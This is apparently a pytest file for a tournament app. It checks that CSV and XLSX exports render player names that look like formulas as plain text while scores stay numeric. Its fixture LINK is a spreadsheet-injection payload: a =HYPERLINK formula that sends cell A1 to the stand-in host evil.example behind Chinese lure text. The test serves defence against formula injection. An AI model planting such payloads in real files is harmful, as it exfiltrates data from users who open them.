"""The CSV and XLSX exports opened in a spreadsheet: a name that looks like a formula stays text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from referee.tournament import Entry, TournamentStore

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点此核对成绩")'


def formula_names(tmp_path) -> TournamentStore:
    """Eight players, some named (by a unit's form, or typed in the console) as formulas; round 1 of t01 scored,
    a score negative."""
    names = [LINK, "+1+1", "@SUM(A1:A9)", "-2+3", "王芳", "李强", "张伟", "刘洋"]
    store = TournamentStore(tmp_path / "t.db")
    store.new("individual-tables", [Entry(f"e{i}", n, LINK if i == 0 else f"单位{i % 3}", LINK if i == 0 else f"单位{i % 3}", (n,))
                                    for i, n in enumerate(names)], name="三打一", seed=1)
    store.pair_next_round()
    store.record_result(1, "t01", {"scores": [40, 12, 12, -20]})
    return store


def test_a_name_that_looks_like_a_formula_is_text_in_the_csv_and_numbers_stay_numbers(tmp_path):
    rows = list(csv.reader(io.StringIO(formula_names(tmp_path).export("csv").decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + LINK in cells and "'+1+1" in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c[:1] == "-" and not c[1:].replace("/", "").isdigit()]
    assert "-20" in cells  # a negative score is a number, no apostrophe


def test_a_name_that_looks_like_a_formula_is_a_string_cell_in_the_xlsx(tmp_path):
    book = load_workbook(io.BytesIO(formula_names(tmp_path).export("xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {LINK, "+1+1", "@SUM(A1:A9)", "-2+3"} <= texts
    assert -20 in [c.value for c in cells if c.data_type == "n"]
